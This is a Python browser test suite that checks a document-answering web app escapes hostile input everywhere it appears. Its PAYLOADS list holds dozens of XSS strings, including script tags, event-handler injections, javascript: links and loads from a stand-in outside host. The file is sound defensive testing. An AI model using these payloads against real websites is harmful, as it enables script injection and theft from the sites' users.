"""Hostile words in every place a reader's or a document's words reach the page, in a real Chromium.

A document's text, title, heading and file name, an employer's folder, and the question itself.
"""

import asyncio
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import uvicorn
from browsing import CHROMIUM, PATIENCE, Visitor, browsing, free_port
from playwright.sync_api import Browser, Locator, expect, sync_playwright

from rag.answering.assistant import Assistant
from rag.config import Settings
from rag.desk import render, server
from rag.desk.wire import PatientOnce
from rag.library.current import CurrentLibrary
from rag.library.embedding import Embedder
from rag.library.ingest import index

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here: sudo apt-get install chromium"),
]

RUN = "window.pwned=1"
OUT = "//elsewhere.example/x"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT>",
    f"<script src={OUT}></script>",
    f'<script type="module">import("{OUT}");{RUN}</script>',
    f"<<script>script>{RUN}<</script>/script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}>",
    f"<img src={OUT}>",
    f"<img srcset='{OUT} 1x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><image href="{OUT}"/></svg>',
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>a</text></a></svg>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={OUT}></object>",
    f"<embed src={OUT}>",
    f"<a href='javascript:{RUN}'>press</a>",
    f'<a href="data:text/html,<script>{RUN}</script>">press</a>',
    f'<a href="https:{OUT}">press</a>',
    f"<base href={OUT}/>",
    f"<link rel=stylesheet href={OUT}>",
    f"<style>@import '{OUT}';body{{background:url({OUT})}}</style>",
    f'<div style="background:url({OUT})">x</div>',
    f"<meta http-equiv=refresh content='0;url=https:{OUT}'>",
    f"<form action=https:{OUT}><button id=b>press</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src={OUT} onerror={RUN} autoplay></video>",
    f"<body onload={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f'"><img src=x onerror={RUN}>',
    f"' onmouseover='{RUN}' x='",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</blockquote></details></article></div><script>{RUN}</script>",
    f"[press](javascript:{RUN})",
    f"[press](data:text/html;base64,PHNjcmlwdD4{RUN})",
    f"![x](https:{OUT})",
    f"[press](https:{OUT})",
    f"<https:{OUT}>",
    f"https:{OUT}",
    "$$\\href{javascript:" + RUN + "}{x}$$",
    "`<b>` **bold** ~~x~~ # heading",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "{{constructor.constructor('" + RUN + "')()}}",
    '__i18n__{"__type__":"translation_metadata","key":"<img src=x onerror=' + RUN + '>"}',
)
IN_NAMES = f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"![x](javascript:{RUN})", f"a<script>{RUN}<b>"
STRANGE = (
    ":is(img, picture, video, audio, script, style, link, meta, base, iframe, object, embed, svg, math, form, input,"
    " textarea, template, noscript, .katex, [onerror], [onload], [onclick], [onmouseover], [onfocus])"
)
PARTS = ("#conversation", ".af-log", "#status", "#choices", "#reminder")


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Iterator[str]:
    """The page on a library that is hostile all through, in this process, as it is served."""
    home = tmp_path_factory.mktemp("home")
    corpus = tmp_path_factory.mktemp("corpus")
    write_corpus(corpus)
    index(home, [corpus], embedder)
    settings = Settings(home=home)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Assistant, "open", lambda _: Assistant(CurrentLibrary(home, embedder), settings))

        async def build() -> server.Desk:
            return server.build_app(settings)

        app = asyncio.run(build())
    port = free_port()
    config = uvicorn.Config(
        app, host="127.0.0.1", port=port, http=PatientOnce, log_level="critical", timeout_graceful_shutdown=1
    )
    one = uvicorn.Server(config)
    thread = threading.Thread(target=one.run)
    thread.start()
    while not one.started:
        time.sleep(0.02)
    yield f"http://127.0.0.1:{port}"
    one.should_exit = True
    thread.join(20)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright, browsing(playwright) as running:
        yield running


def write_corpus(corpus: Path) -> None:
    """Policies whose clauses, headings, titles, file names and employers' folders hold every payload."""
    for number, payload in enumerate(PAYLOADS):
        shown = payload.replace("&", "&amp;").replace("<", "&lt;").replace("[", "\\[").replace("$", "\\$")
        shown = shown.replace("`", "\\`").replace("*", "\\*").replace("_", "\\_")
        name = IN_NAMES[number % len(IN_NAMES)].replace("/", "")
        folder = corpus / "employer" / f"e{number:02}{name}"
        folder.mkdir(parents=True)
        title = payload.replace('"', "'").replace("\\", "")
        text = (
            f'---\ntitle: "Policy {title}"\n---\n# Policy {shown}\n\n## 3. Rules {shown}\n\n'
            f"3.1 You must not paste case notes {shown} into ChatGPT.\n\n"
            f"3.2 Ask {shown} your manager about ChatGPT {payload} first.\n"
        )
        (folder / f"{name}.md").write_text(text, encoding="utf-8")


def check_clean(visitor: Visitor, url: str) -> None:
    """Nothing ran, nothing was fetched from elsewhere, and no link or strange element is in what we wrote."""
    page = visitor.page
    assert page.evaluate("window.pwned") is None
    assert visitor.went_elsewhere == []
    assert visitor.complaints == []
    assert page.url.rstrip("/") == url
    assert page.locator(".af-log [style]").count() == 0
    for part in PARTS:
        assert page.locator(f"{part} {STRANGE}").evaluate_all("all => all.map(one => one.outerHTML)") == [], part
        assert page.locator(f"{part} a").evaluate_all("all => all.map(one => one.href)") == [], part


def test_hostile_documents_stay_words(url: str, browser: Browser) -> None:
    """Every payload as the employer whose policy is asked, so each is shown as title, heading, clause and name."""
    visitor = Visitor.arriving(browser, url, (1280, 900))
    expect(visitor.status).to_contain_text("Ready: ", timeout=PATIENCE)
    shown = 0
    for number in range(len(PAYLOADS)):
        visitor.page.locator("#employer input").click()
        visitor.page.locator(f"[role=option][aria-label^='e{number:02}']").click()
        card = visitor.ask("Can I paste case notes into ChatGPT?")
        open_all(card)
        shown += PAYLOADS[number] in (card.text_content() or "")
        visitor.page.mouse.move(200, 200)
        check_clean(visitor, url)
        visitor.button("Start again").click()
        expect(visitor.articles).to_have_count(0)
    visitor.context.close()
    assert shown >= 30, f"only {shown} payloads were shown as the words they are"


def test_hostile_questions_stay_words(url: str, browser: Browser) -> None:
    visitor = Visitor.arriving(browser, url, (1280, 900))
    expect(visitor.status).to_contain_text("Ready: ", timeout=PATIENCE)
    shown = 0
    for number, payload in enumerate(PAYLOADS):
        visitor.type(f"Can I paste {payload} into ChatGPT?")
        visitor.button("Ask").click()
        expect(visitor.page.locator(".af-asked")).to_have_count(number % 5 + 1)
        expect(visitor.page.locator(".af-working")).to_have_count(0)
        shown += payload in (visitor.page.locator(".af-asked").last.text_content() or "")
        check_clean(visitor, url)
        if number % 5 == 4:
            visitor.button("Start again").click()
            expect(visitor.page.locator(".af-asked")).to_have_count(0)
    visitor.context.close()
    assert shown >= 30, f"only {shown} payloads were shown as the words they are"


def open_all(card: Locator) -> None:
    card.locator("details").evaluate_all("all => all.forEach(one => { one.open = true; })")


def test_markup_that_is_not_escaped_is_seen(url: str, browser: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    """The twin: with our escaping gone the checks fail, though the policy and the sanitiser still stop the script."""
    monkeypatch.setattr(render, "question_bubble", lambda words: f'<div class="af-asked">{words}</div>')
    visitor = Visitor.arriving(browser, url, (1280, 900))
    visitor.box.fill("Can I paste <img src=https://elsewhere.example/x> into ChatGPT?")
    visitor.button("Ask").click()
    visitor.page.locator("#conversation img").first.wait_for(state="attached")
    with pytest.raises(AssertionError):
        check_clean(visitor, url)
    visitor.context.close()


def test_the_policy_stops_what_gets_past(url: str, browser: Browser) -> None:
    """Were all else to fail, the browser itself refuses inline code, eval, and every address elsewhere."""
    visitor = Visitor.arriving(browser, url, (1280, 900))
    visitor.page.evaluate(
        """() => { const box = document.createElement('div'); document.body.append(box);
        box.innerHTML = '<img src=x onerror="window.pwned=1"><img src="https://elsewhere.example/x">'
        + '<iframe src="javascript:parent.pwned=1"></iframe>';
        const script = document.createElement('script'); script.textContent = 'window.pwned=1'; box.append(script);
        fetch('https://elsewhere.example/x').catch(() => 0); }"""
    )
    visitor.page.wait_for_timeout(300)
    assert visitor.page.evaluate("window.pwned") is None
    assert len([line for line in visitor.complaints if "Content Security Policy" in line]) >= 4
    visitor.context.close()
